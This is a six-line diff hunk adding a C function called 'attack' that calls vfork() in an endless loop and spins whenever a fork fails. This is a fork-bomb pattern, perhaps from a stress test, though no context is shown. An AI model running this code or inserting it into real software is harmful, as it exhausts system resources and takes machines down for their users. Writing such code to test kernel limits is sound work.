@@ -1,0 +1,6 @@
+static void attack(void)
+{
+    for (;;)
+        if (vfork() < 0)
+            spin();
+}
